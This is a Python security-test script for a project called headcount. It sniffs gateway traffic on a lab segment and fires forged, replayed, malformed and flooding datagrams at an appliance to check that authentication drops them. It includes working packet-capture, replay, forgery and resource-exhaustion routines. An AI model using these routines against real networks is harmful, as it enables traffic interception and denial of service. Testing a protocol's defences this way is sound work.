#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""hc-attack.py - an attacker on the lab's segment, with ordinary sockets.

The attack classes of issue #7, against an appliance that authenticates
(protocol v2) and the libheadcount gateways around it, as a host on the
same L2 segment would try them: it sees the gateways' traffic (a capture),
has no key, and sends from its own address (no IP spoofing).

  capture --iface IF --out FILE [--count N] [--seconds S]
      record the headcount datagrams seen on IF (run in the gateways'
      namespace: what a sniffing attacker learns), one per line:
      direction src_ip src_port dst_ip dst_port payload_hex
  attack --capture FILE --appliance IP[:PORT] --result FILE
      every class below, then key=value lines: what was sent per class,
      what the appliance must count (expect_*), and replies_received:
      datagrams anybody sent back to the attacker (must be 0).

Classes (all sealed with no key or a made-up tag, so every one must be
dropped before it touches state):
  hb_newer        HEARTBEATs claiming a newer incarnation (no tag, then a
                  forged tag): would drop the gateway's users
  hb_stale        HEARTBEATs of an older incarnation: would move its address
  snap_wipe       an empty SNAPSHOT chunk 0 far ahead: would wipe a gateway
  phantoms        EVENTS under an unused gateway id (one with a key slot
                  in the keys file, one without): phantom users
  steal           JOINs moving captured real users into the attacker's rooms
  snap_claim      SNAPSHOT chunk 0s claiming 1 Mi members: heap exhaustion
  place_flood     PLACEs for every seat: reservation exhaustion
  gap_hb          HEARTBEATs naming far-ahead sequences: NACK reflection
  malformed       captured datagrams mutated: counted as truncated,
                  bad_magic, bad_version, bad_length
  replay          captured genuine datagrams resent verbatim (valid tags):
                  duplicates, replayed counters, stale incarnations
  to_gateways     forged MOVE/HEARTBEAT/ASSIGN sent to the gateways' ports
                  (libheadcount must refuse them: wrong source)

  reflect --appliance IP[:PORT] --gateway ID --count N --result FILE
      against an appliance run with --no-auth (nothing proves a source):
      N datagrams under gateway ID: EVENTS at every other sequence (each
      hole a NACK run), then heartbeats naming more missing sequences;
      counts what comes back within 3 s of the last one (the appliance
      bounds it: 4 per datagram received + 64).
  sweeps --appliance IP[:PORT] --keys FILE --gateway ID --count N --result FILE
      a gateway holding a valid key (ID's slot 0 in FILE) that makes the
      workers sweep as often as it can: N datagrams of N newer
      incarnations, each joining one user (each drops the last one's),
      then (after --pause seconds, 2.5) N rounds of a JOIN and an empty
      one-chunk snapshot (each sweeps the user out); writes sent= and
      elapsed_s= (first to last datagram).  The appliance allows
      --gateway-sweeps a second.
  holds --appliance IP[:PORT] --keys FILE --first-id ID --gateways K
        --held H --result FILE
      K gateways holding valid keys (ID.. ID+K-1, slot 0 in FILE), each
      sending its sequence 1 and then 3 .. H+2: every one of those waits
      in the appliance for the missing 2 (its sequencer holds the
      datagram, and its mbuf) until the gap is given up; K x H mbufs
      held at once, to run the packet pool dry.  Writes sent=.
Bounded: every class sends a fixed number of datagrams, paced.
"""
import argparse
import os
import random
import re
import socket
import struct
import sys
import time

MAGIC = 0x48434E54
VERSION = 3
EVENTS, PLACE, ASSIGN, MOVE, HEARTBEAT, SNAPSHOT, RESYNC = 1, 2, 3, 4, 5, 6, 7
F_AUTH = 0x0001
HDR = struct.Struct('!IBBHHHIII16s')       # 40 bytes
EVENT = struct.Struct('!QIBBHQ')           # 24 (user, room, op, flags, pool, session)
EVENTS_PER = 59                              # (1472 - 40) // 24: one 1500-byte frame
PLACE_REC = struct.Struct('!QIHH')         # 16
HB = struct.Struct('!IIIIQ')               # 24
SNAP_PREFIX = struct.Struct('!IIII')       # 16
MOVE_REC = struct.Struct('!QIIIHH')        # 24
ASSIGN_REC = struct.Struct('!QIIIHBB')     # 24
assert HDR.size == 40 and EVENT.size == 24 and HB.size == 24 and MOVE_REC.size == 24


def hdr(mtype, gw, count, ginc, ainc, seq, tag=None):
    """A header; tag None: no AUTH flag, else AUTH with this (forged) tag."""
    flags = 0 if tag is None else F_AUTH
    return HDR.pack(MAGIC, VERSION, mtype, flags, gw, count, ginc, ainc, seq,
                    tag if tag is not None else bytes(16))


def forged_tag(rng):
    return bytes(rng.getrandbits(8) for _ in range(16))


# ------------------------------------------------------------ capture --

def capture(args):
    """Headcount datagrams on an interface, via an AF_PACKET socket."""
    # ETH_P_ALL: a tap on IPv4 alone would not see what this host sends
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0003))
    s.bind((args.iface, 0))
    s.settimeout(0.2)
    end = time.time() + args.seconds
    n = 0
    with open(args.out, 'w') as out:
        while n < args.count and time.time() < end:
            try:
                frame, addr = s.recvfrom(65535)
            except socket.timeout:
                continue
            if len(frame) < 14 + 20 + 8 or frame[12:14] != b'\x08\x00':
                continue
            ip = frame[14:]
            ihl = (ip[0] & 15) * 4
            if ip[9] != 17 or len(ip) < ihl + 8:
                continue
            sport, dport, ulen = struct.unpack('!HHH', ip[ihl:ihl + 6])
            payload = ip[ihl + 8:ihl + ulen]
            if len(payload) < 40 or struct.unpack('!I', payload[:4])[0] != MAGIC:
                continue
            src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
            direction = 'g2a' if dport == args.port else ('a2g' if sport == args.port else None)
            if direction is None:
                continue
            out.write(f'{direction} {src} {sport} {dst} {dport} {payload.hex()}\n')
            n += 1
    print(f'captured={n}')


def load_capture(path):
    recs = []
    with open(path) as f:
        for line in f:
            d, src, sport, dst, dport, hexp = line.split()
            recs.append((d, src, int(sport), dst, int(dport), bytes.fromhex(hexp)))
    return recs


class Known:
    """What the capture tells of one gateway."""
    def __init__(self, gw):
        self.gw = gw
        self.inc = 0
        self.seq = 0
        self.ctr = 0
        self.addr = None
        self.users = []  # (user, room, pool) from JOINs seen
        self.appl_inc = 0


def learn(recs):
    gws = {}
    for d, src, sport, dst, dport, p in recs:
        (magic, ver, mtype, flags, gw, count, ginc, ainc, seq, tag) = HDR.unpack(p[:40])
        k = gws.setdefault(gw, Known(gw))
        if d == 'g2a':
            if ginc >= k.inc:
                k.inc = ginc
            k.addr = (src, sport)
            if mtype in (EVENTS, SNAPSHOT):
                k.seq = max(k.seq, seq)
            else:
                k.ctr = max(k.ctr, seq)
            if mtype == EVENTS:
                for i in range(count):
                    user, room, op, fl, pool, _ = EVENT.unpack(p[40 + 24 * i:64 + 24 * i])
                    if op == 1 and len(k.users) < 1000:
                        k.users.append((user, room, pool))
        else:
            k.appl_inc = max(k.appl_inc, ainc)
    return gws


# ------------------------------------------------------------- attack --

class Sender:
    def __init__(self, appliance, port):
        self.dst = (appliance, port)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(('0.0.0.0', 0))
        self.sock.setblocking(False)
        self.sent = 0
        self.replies = 0

    def send(self, payload, dst=None):
        while True:
            try:
                self.sock.sendto(payload, dst or self.dst)
                break
            except BlockingIOError:
                time.sleep(0.001)
        self.sent += 1
        if self.sent % 32 == 0:
            time.sleep(0.002)  # paced: the segment is shared with the fleet
            self.drain()

    def drain(self):
        while True:
            try:
                self.sock.recvfrom(65535)
                self.replies += 1
            except BlockingIOError:
                return


def attack(args):
    rng = random.Random(args.seed)
    recs = load_capture(args.capture)
    gws = {g: k for g, k in learn(recs).items() if k.addr is not None}
    if not gws:
        print('hc-attack: the capture holds no gateway datagram', file=sys.stderr)
        return 2
    s = Sender(*args.appliance)
    res = {}
    expect = {'auth_missing': 0, 'auth_bad_tag': 0, 'auth_no_key': 0,
              'truncated': 0, 'bad_magic': 0, 'bad_version': 0, 'bad_length': 0}

    def count(name, n, why):
        res['sent_' + name] = res.get('sent_' + name, 0) + n
        expect[why] += n

    def hb(k, inc, last, tag):
        return hdr(HEARTBEAT, k.gw, 1, inc, k.appl_inc, k.ctr + 1, tag) + \
            HB.pack(last, 0, 100, 0, 0)

    for k in gws.values():
        # newer incarnation: drops all of the gateway's users if believed
        for _ in range(2):
            s.send(hb(k, k.inc + 1, 0, None))
        count('hb_newer', 2, 'auth_missing')
        for _ in range(2):
            s.send(hb(k, k.inc + 1, 0, forged_tag(rng)))
        count('hb_newer', 2, 'auth_bad_tag')
        # stale incarnation: would re-point the appliance's answers
        for _ in range(10):
            s.send(hb(k, max(k.inc - 1, 1), 0, forged_tag(rng)))
        count('hb_stale', 10, 'auth_bad_tag')
        # empty snapshot chunk 0 far ahead: wipes the gateway
        s.send(hdr(SNAPSHOT, k.gw, 0, k.inc, k.appl_inc, k.seq + 100000, forged_tag(rng)) +
               SNAP_PREFIX.pack(rng.getrandbits(31) + 1, 0, 1, 0))
        count('snap_wipe', 1, 'auth_bad_tag')
        # steal captured users into the attacker's rooms
        users = k.users[:EVENTS_PER * 13]
        for i in range(0, len(users), EVENTS_PER):
            part = users[i:i + EVENTS_PER]
            body = b''.join(EVENT.pack(u, 4000 + (u % 7), 1, 0, pool, 0) for u, _, pool in part)
            s.send(hdr(EVENTS, k.gw, len(part), k.inc, k.appl_inc, k.seq + 1 + i // EVENTS_PER,
                       forged_tag(rng)) + body)
            count('steal', 1, 'auth_bad_tag')
        # snapshots claiming 1 Mi members, 180 of them
        for i in range(180 // len(gws) + 1):
            s.send(hdr(SNAPSHOT, k.gw, 0, k.inc, k.appl_inc, k.seq + 10 + i, forged_tag(rng)) +
                   SNAP_PREFIX.pack(1000 + i, 0, 1 << 20, 1 << 20))
            count('snap_claim', 1, 'auth_bad_tag')
        # reflection: heartbeats naming far-ahead sequences
        for i in range(500 // len(gws) + 1):
            s.send(hb(k, k.inc, k.seq + 1000 + i * 33, forged_tag(rng)))
            count('gap_hb', 1, 'auth_bad_tag')
    # phantom users under unused ids: one with a key slot, one without
    for gw_id, why in ((args.unused_keyed_id, 'auth_bad_tag'), (args.unused_id, 'auth_no_key')):
        for d in range(23):
            body = b''.join(EVENT.pack(0xA77AC000000 + d * EVENTS_PER + i, 3000 + i % 20, 1, 0, 0, 0)
                            for i in range(EVENTS_PER))
            s.send(hdr(EVENTS, gw_id, EVENTS_PER, 7, 0, d + 1, forged_tag(rng)) + body)
            count('phantoms', 1, why)
    # a PLACE flood for every seat
    k0 = next(iter(gws.values()))
    for d in range(200):
        body = b''.join(PLACE_REC.pack(0xF100D000000 + d * 89 + i, d * 89 + i + 1, 0, 0)
                        for i in range(89))
        s.send(hdr(PLACE, k0.gw, 89, k0.inc, k0.appl_inc, k0.ctr + 1 + d, forged_tag(rng)) + body)
        count('place_flood', 1, 'auth_bad_tag')
    # malformed mutations of genuine datagrams: counted format drops
    genuine = [r[5] for r in recs if r[0] == 'g2a']
    for i in range(min(60, len(genuine))):
        p = bytearray(genuine[rng.randrange(len(genuine))])
        kind = ('truncated', 'bad_magic', 'bad_version', 'bad_length')[i % 4]
        if kind == 'truncated':
            p = p[:39]
        elif kind == 'bad_magic':
            p[0] ^= 0xFF
        elif kind == 'bad_version':
            p[4] = 1                         # version 1: no tags
        else:
            p = p + b'\0'                    # one byte too many
        s.send(bytes(p))
        count('malformed', 1, kind)
    # replay genuine datagrams verbatim: valid tags, old news
    replay = genuine[:args.replay]
    for p in replay:
        s.send(p)
    res['sent_replay'] = len(replay)
    # forged answers to the gateways, from our own address
    to_gw = 0
    for k in gws.values():
        dst = k.addr
        for i in range(5):
            mv = MOVE_REC.pack(k.users[0][0] if k.users else 1, k.users[0][1] if k.users else 1,
                               9999, 0x7FFF0000 + i, 0, 0)
            s.send(hdr(MOVE, k.gw, 1, k.inc, k.appl_inc, 1 << 30 | i, forged_tag(rng)) + mv, dst)
            s.send(hdr(HEARTBEAT, k.gw, 1, k.inc, k.appl_inc + 12345, 1 << 30 | i,
                       forged_tag(rng)) + HB.pack(0, 0, 100, 1, 0), dst)
            s.send(hdr(ASSIGN, k.gw, 1, k.inc, k.appl_inc, 1 << 30 | (i + 8), forged_tag(rng)) +
                   ASSIGN_REC.pack(1, 0, 9999, 0, 0, 1, 0), dst)
            to_gw += 3
    res['sent_to_gateways'] = to_gw
    time.sleep(1.0)  # anything the appliance or a gateway would send back
    s.drain()
    res['gateways_attacked'] = len(gws)
    res['sent_total'] = s.sent
    for why, n in expect.items():
        res['expect_' + why] = n
    res['replies_received'] = s.replies
    with open(args.result, 'w') as f:
        for key in sorted(res):
            f.write(f'{key}={res[key]}\n')
    for key in sorted(res):
        print(f'{key}={res[key]}')
    return 0


_libsodium = None


def seal(key, dgram):
    """dgram (AUTH set, tag bytes zero) with its tag under key: SipHash-2-4-128
    by libsodium's crypto_shorthash_siphashx24, as docs/protocol.md says."""
    global _libsodium
    if _libsodium is None:
        import ctypes
        import ctypes.util
        _libsodium = ctypes.CDLL(ctypes.util.find_library('sodium') or 'libsodium.so.23')
        if _libsodium.sodium_init() < 0:
            raise OSError('sodium_init failed')
    import ctypes
    out = ctypes.create_string_buffer(16)
    body = dgram[:24] + bytes(16) + dgram[40:]
    if _libsodium.crypto_shorthash_siphashx24(out, body, ctypes.c_ulonglong(len(body)), key) != 0:
        raise OSError('crypto_shorthash_siphashx24 failed')
    return dgram[:24] + out.raw + dgram[40:]


def gateway_key(path, gw):
    """Gateway gw's slot-0 key from a keys file ("ID SLOT HEX" lines)."""
    with open(path) as f:
        for line in f:
            w = line.split()
            if len(w) == 3 and w[0] == str(gw) and w[1] == '0':
                return bytes.fromhex(w[2])
    raise SystemExit(f'hc-attack: no slot-0 key for gateway {gw} in {path}')


def sweeps(args):
    key = gateway_key(args.keys, args.gateway)
    s = Sender(*args.appliance)
    base_inc, base_user = 5000 + args.seed, 0x5EE9000000 + args.seed * 1000000
    zero = bytes(16)

    def send(mtype, count, inc, seq, body):
        s.send(seal(key, hdr(mtype, args.gateway, count, inc, 0, seq, zero) + body))

    t0 = time.time()
    for r in range(args.count):  # each a newer incarnation: the last one's user goes
        send(EVENTS, 1, base_inc + r, 1, EVENT.pack(base_user + r, 1 + r % 50, 1, 0, 0, 1))
    time.sleep(args.pause)  # the appliance's budget fills again
    inc = base_inc + args.count
    for r in range(args.count):  # a JOIN, then a snapshot without that user
        send(EVENTS, 1, inc, 2 * r + 1,
             EVENT.pack(base_user + args.count + r, 1 + r % 50, 1, 0, 0, 1))
        send(SNAPSHOT, 0, inc, 2 * r + 2, SNAP_PREFIX.pack(r + 1, 0, 1, 0))
    elapsed = time.time() - t0
    s.drain()
    with open(args.result, 'w') as f:
        f.write(f'sent={s.sent}\nelapsed_s={elapsed:.3f}\n')
    print(f'sent={s.sent} elapsed_s={elapsed:.3f}')
    return 0


def holds(args):
    s = Sender(*args.appliance)
    zero = bytes(16)
    for k in range(args.gateways):
        gw = args.first_id + k
        key = gateway_key(args.keys, gw)
        inc = 7000 + args.seed
        for seq in [1] + list(range(3, args.held + 3)):
            ev = EVENT.pack(0x5EB0000000 + gw * 1000 + seq, 1 + seq % 50, 1, 0, 0, 1)
            s.send(seal(key, hdr(EVENTS, gw, 1, inc, 0, seq, zero) + ev))
    s.drain()
    with open(args.result, 'w') as f:
        f.write(f'sent={s.sent}\n')
    print(f'sent={s.sent}')
    return 0


def reflect(args):
    s = Sender(*args.appliance)
    inc = 1000 + args.seed
    # EVENTS at every other sequence: every hole is a NACK run, asked for
    # again every gap timeout; then heartbeats naming more
    half = args.count // 2
    for i in range(half):
        ev = EVENT.pack(0x5EF1EC7000 + i, 1 + i % 50, 1, 0, 0, 0)
        s.send(hdr(EVENTS, args.gateway, 1, inc, 0, 2 * (i + 1)) + ev)
    for i in range(args.count - half):
        s.send(hdr(HEARTBEAT, args.gateway, 1, inc, 0, i + 1) +
               HB.pack(2 * half + 100 * (i + 1), 0, 100, 0, 0))
    end = time.time() + 3.0
    while time.time() < end:
        s.drain()
        time.sleep(0.05)
    with open(args.result, 'w') as f:
        f.write(f'sent={s.sent}\nreplies_received={s.replies}\n')
    print(f'sent={s.sent} replies_received={s.replies}')
    return 0


def project_version():
    """The project's version (meson.build's project()): this script runs
    from the source tree, not installed."""
    here = os.path.dirname(os.path.abspath(__file__))
    try:
        with open(os.path.join(here, '..', 'meson.build')) as f:
            m = re.search(r"project\('headcount'.*?version\s*:\s*'([^']+)'", f.read(), re.S)
        return m.group(1) if m else '(unknown)'
    except OSError:
        return '(unknown)'


def appliance(text):
    """--appliance HOST[:PORT] (port 7100 unless given), as every tool."""
    host, _, port = text.rpartition(':') if ':' in text else (text, '', '7100')
    if not host or not port.isdigit() or not 1 <= int(port) <= 65535:
        raise argparse.ArgumentTypeError("'%s' is not HOST[:PORT]" % text)
    return host, int(port)


def main():
    ap = argparse.ArgumentParser(prog='hc-attack.py', description=__doc__.split('\n')[0])
    ap.add_argument('--version', action='version',
                    version='hc-attack.py (headcount) ' + project_version())
    # not required here: an unknown option is named first, as by every
    # headcount program, before a missing command
    sub = ap.add_subparsers(dest='cmd')
    c = sub.add_parser('capture')
    c.add_argument('--iface', required=True)
    c.add_argument('--out', required=True)
    c.add_argument('--port', type=int, default=7100)
    c.add_argument('--count', type=int, default=20000)
    c.add_argument('--seconds', type=float, default=30)
    a = sub.add_parser('attack')
    a.add_argument('--capture', required=True)
    a.add_argument('--appliance', required=True, type=appliance, metavar='HOST[:PORT]')
    a.add_argument('--result', required=True)
    a.add_argument('--replay', type=int, default=2000, help='genuine datagrams to replay')
    a.add_argument('--unused-keyed-id', type=int, default=200)
    a.add_argument('--unused-id', type=int, default=900)
    a.add_argument('--seed', type=int, default=7)
    r = sub.add_parser('reflect')
    r.add_argument('--appliance', required=True, type=appliance, metavar='HOST[:PORT]')
    r.add_argument('--gateway', type=int, default=50)
    r.add_argument('--count', type=int, default=500)
    r.add_argument('--result', required=True)
    r.add_argument('--seed', type=int, default=7)
    def keyed(name):
        """A command of a gateway holding a key: where, whose keys, and
        (added last, as each command's own options come first) where its
        result goes, and its seed."""
        p = sub.add_parser(name)
        p.add_argument('--appliance', required=True, type=appliance, metavar='HOST[:PORT]')
        p.add_argument('--keys', required=True)
        return p

    def result_and_seed(p):
        p.add_argument('--result', required=True)
        p.add_argument('--seed', type=int, default=7)

    w = keyed('sweeps')
    w.add_argument('--gateway', type=int, default=60)
    w.add_argument('--count', type=int, default=200)
    w.add_argument('--pause', type=float, default=2.5)
    result_and_seed(w)
    h = keyed('holds')
    h.add_argument('--first-id', type=int, default=100)
    h.add_argument('--gateways', type=int, default=20)
    h.add_argument('--held', type=int, default=63)
    result_and_seed(h)
    args, extra = ap.parse_known_args()
    if extra:
        ap.error('unrecognized arguments: ' + ' '.join(extra))
    if args.cmd is None:
        ap.error('a command is required: capture, attack, reflect, sweeps or holds')
    if args.cmd == 'holds':
        return holds(args)
    if args.cmd == 'reflect':
        return reflect(args)
    if args.cmd == 'sweeps':
        return sweeps(args)
    if args.cmd == 'capture':
        capture(args)
        return 0
    return attack(args)


if __name__ == '__main__':
    sys.exit(main())
